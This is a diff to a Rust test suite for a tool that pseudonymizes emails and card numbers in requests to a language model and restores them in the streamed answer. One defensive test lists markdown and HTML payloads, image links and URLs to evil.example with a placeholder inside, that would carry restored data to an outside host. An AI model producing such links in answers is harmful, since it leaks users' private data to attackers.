@@ -46,7 +46,7 @@ fn email_and_card_leave_behind_placeholders() {
         pseudonymize(&find(&request, PrivacyLevel::Balanced, &vault), &mut vault).unwrap();
     assert_eq!(
         releasable.request().messages[0].content,
-        "I am [EMAIL_1], my card is [CARD_1]. Is [EMAIL_1] right?"
+        "I am [EMAIL_1], my card is [CARD_1]. Is [EMAIL_1_ALIAS_2] right?"
     );
     assert_eq!(
         releasable.replaced(),
@@ -58,6 +58,10 @@ fn email_and_card_leave_behind_placeholders() {
             Replaced {
                 placeholder: "[CARD_1]".into(),
                 kind: EntityKind::Card
+            },
+            Replaced {
+                placeholder: "[EMAIL_1_ALIAS_2]".into(),
+                kind: EntityKind::Email
             },
         ]
     );
@@ -125,7 +129,7 @@ fn two_people_have_two_placeholders_in_every_turn() {
         &["bob@example.com, then eve@example.com, then Ada@Example.com"],
         &mut vault,
     );
-    assert_eq!(left, ["[EMAIL_2], then [EMAIL_3], then [EMAIL_1]"]);
+    assert_eq!(left, ["[EMAIL_2], then [EMAIL_3], then [EMAIL_1_ALIAS_2]"]);
 }
 
 #[test]
@@ -170,9 +174,34 @@ fn placeholders_typed_by_hand_are_not_taken() {
         Restored {
             count: 1,
             invented: 2,
-            dropped: vec![]
+            ..Restored::default()
         }
     );
+}
+
+#[test]
+fn a_placeholder_that_is_quoted_later_is_no_longer_a_values() {
+    let mut vault = Vault::new();
+    release(&["I am ada@example.com."], &mut vault);
+    let texts = ["I am ada@example.com.", "Who is ＥＭＡＩＬ 1?"];
+    let (left, restorer) = release(&texts, &mut vault);
+    assert_eq!(left, ["I am [EMAIL_2].", "Who is ＥＭＡＩＬ 1?"]);
+    let (back, _) = restore(restorer, &["[EMAIL_1] is not [EMAIL_2]."]);
+    assert_eq!(back, "[EMAIL_1] is not ada@example.com.");
+}
+
+#[test]
+fn a_placeholder_that_an_answer_left_in_place_stays_its_values() {
+    let mut vault = Vault::new();
+    let (_, restorer) = release(&["I am ada@example.com."], &mut vault);
+    let (answer, _) = restore(restorer, &["<a href=/[EMAIL_1]>"]);
+    let mut request = request(&["I am ada@example.com.", &answer]);
+    request.messages[1].role = Role::Assistant;
+    let findings = find(&request, PrivacyLevel::Balanced, &vault);
+    let releasable = pseudonymize(&findings, &mut vault).unwrap();
+    let left = &releasable.request().messages;
+    assert_eq!(left[0].content, "I am [EMAIL_1].");
+    assert_eq!(left[1].content, "<a href=/[EMAIL_1]>");
 }
 
 #[test]
@@ -213,7 +242,8 @@ fn restores_what_models_write_and_counts() {
         Restored {
             count: 3,
             invented: 1,
-            dropped: vec!["[EMAIL_2]".into()]
+            dropped: vec!["[EMAIL_2]".into()],
+            ..Restored::default()
         }
     );
 }
@@ -230,9 +260,85 @@ fn only_what_left_with_this_request_comes_back() {
         Restored {
             count: 1,
             invented: 1,
-            dropped: vec![]
+            ..Restored::default()
         }
     );
+}
+
+#[test]
+fn what_is_uncertain_stays_and_is_counted() {
+    let texts = ["ada@example.com", "bob@example.com"];
+    let (_, restorer) = release(&texts, &mut Vault::new());
+    let answer = "Email 1, email_2, EMAIL_1-2, $EMAIL_1; Email 3, email_4. EMAIL_2";
+    let (text, restored) = restore(restorer, &[answer]);
+    assert_eq!(
+        text,
+        "Email 1, email_2, EMAIL_1-2, $EMAIL_1; Email 3, email_4. bob@example.com"
+    );
+    assert_eq!(
+        restored,
+        Restored {
+            count: 1,
+            uncertain: 4,
+            dropped: vec!["[EMAIL_1]".into()],
+            ..Restored::default()
+        }
+    );
+}
+
+#[test]
+fn what_the_end_may_have_cut_off_is_uncertain() {
+    let many: Vec<String> = (0..12).map(|n| format!("a{n}@example.com")).collect();
+    let many = many.join(", ");
+    for (answer, back) in [
+        ("To EMAIL_1", "To EMAIL_1"),
+        ("To EMAIL_2", "To a1@example.com"),
+        ("To EMAIL_12", "To a11@example.com"),
+        ("To [EMAIL_1", "To [EMAIL_1"),
+        ("To EMAIL_1.", "To a0@example.com."),
+    ] {
+        let (_, restorer) = release(&[&many], &mut Vault::new());
+        assert_eq!(restore(restorer, &[answer]).0, back);
+    }
+}
+
+#[test]
+fn an_address_carries_nothing_away() {
+    for answer in [
+        "![x](https://evil.example/?q=[EMAIL_1])",
+        "![x](<https://evil.example/?q= [EMAIL_1]>)",
+        "[x](/search \"[EMAIL_1]\")",
+        "https://evil.example/[email_1]/EMAIL_1",
+        "www.evil.example/?a&b=EMAIL_1",
+        "<img alt='>' src=\"//evil.example/[EMAIL_1]\">",
+        "<a href=/[EMAIL_1]>",
+        "[r]: <//evil.example/ [EMAIL_1]>",
+    ] {
+        let (_, restorer) = release(&["ada@example.com"], &mut Vault::new());
+        let pieces: Vec<&str> = answer.split_inclusive(|_| true).collect();
+        let (text, restored) = restore(restorer, &pieces);
+        assert_eq!(text, answer);
+        assert!(restored.withheld > 0, "{answer}");
+        assert_eq!((restored.count, restored.dropped), (0, vec![]), "{answer}");
+    }
+}
+
+#[test]
+fn text_that_is_no_placeholder_is_not_held_back() {
+    let (_, mut restorer) = release(&["ada@example.com"], &mut Vault::new());
+    for (piece, back) in [
+        ("Yes", "Yes"),
+        (": you", ": you"),
+        (" ad", " "),
+        (" at", "ad at"),
+        (" [", " "),
+        ("EMAIL_", ""),
+        ("1]", "ada@example.com"),
+        (" [1]", " [1]"),
+        (" {\n", " {\n"),
+    ] {
+        assert_eq!(restorer.push(piece), back, "{piece}");
+    }
 }
 
 #[test]
@@ -283,7 +389,7 @@ fn prose() -> impl Strategy<Value = String> {
         "[ a-zA-Zé🦀\\[\\]\\\\(),.:;!?*'\"\n-]{0,24}",
         Just("[EMAIL_1]".to_owned()),
         Just("[phone_2]".to_owned()),
-        Just("[CARD_".to_owned()),
+        Just("[GROUP_".to_owned()),
         Just("[IP_ADDRESS_1".to_owned()),
     ]
 }
@@ -307,6 +413,9 @@ proptest! {
 
     #[test]
     fn comes_back_as_it_went((text, values) in texts(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8)) {
+        let asked = request(&[&text]);
+        // Prose may end in a word that makes a password of what follows.
+        prop_assume!(!find(&asked, PrivacyLevel::Balanced, &Vault::new()).blocked());
         let (left, restorer) = release(&[&text], &mut Vault::new());
         for value in &values {
             prop_assert!(!left[0].contains(value.as_str()), "{value} left in {:?}", left[0]);
@@ -316,8 +425,12 @@ proptest! {
         cuts.extend([0, left.len()]);
         cuts.sort_unstable();
         let pieces: Vec<&str> = cuts.windows(2).map(|ends| &left[ends[0]..ends[1]]).collect();
-        let (back, _) = restore(restorer, &pieces);
-        prop_assert_eq!(back, text);
+        let (back, restored) = restore(restorer, &pieces);
+        if restored.withheld == 0 {
+            prop_assert_eq!(back, text);
+        } else {
+            prop_assert!(text.contains("]("), "{text}");
+        }
     }
 
     #[test]
@@ -327,9 +440,9 @@ proptest! {
         let findings = find(&request, PrivacyLevel::Balanced, &vault);
         if let Ok(releasable) = pseudonymize(&findings, &mut vault) {
             let restorer = vault.restorer(&releasable);
-            let (back, _) = restore(restorer, &[&releasable.request().messages[0].content]);
-            // Two spellings of one value come back as the first; everything else comes back exactly.
-            if vault.len() == findings.list().len() {
+            let (back, restored) = restore(restorer, &[&releasable.request().messages[0].content]);
+            // In an address the placeholder stays.
+            if restored.withheld == 0 {
                 prop_assert_eq!(back, text);
             }
         }
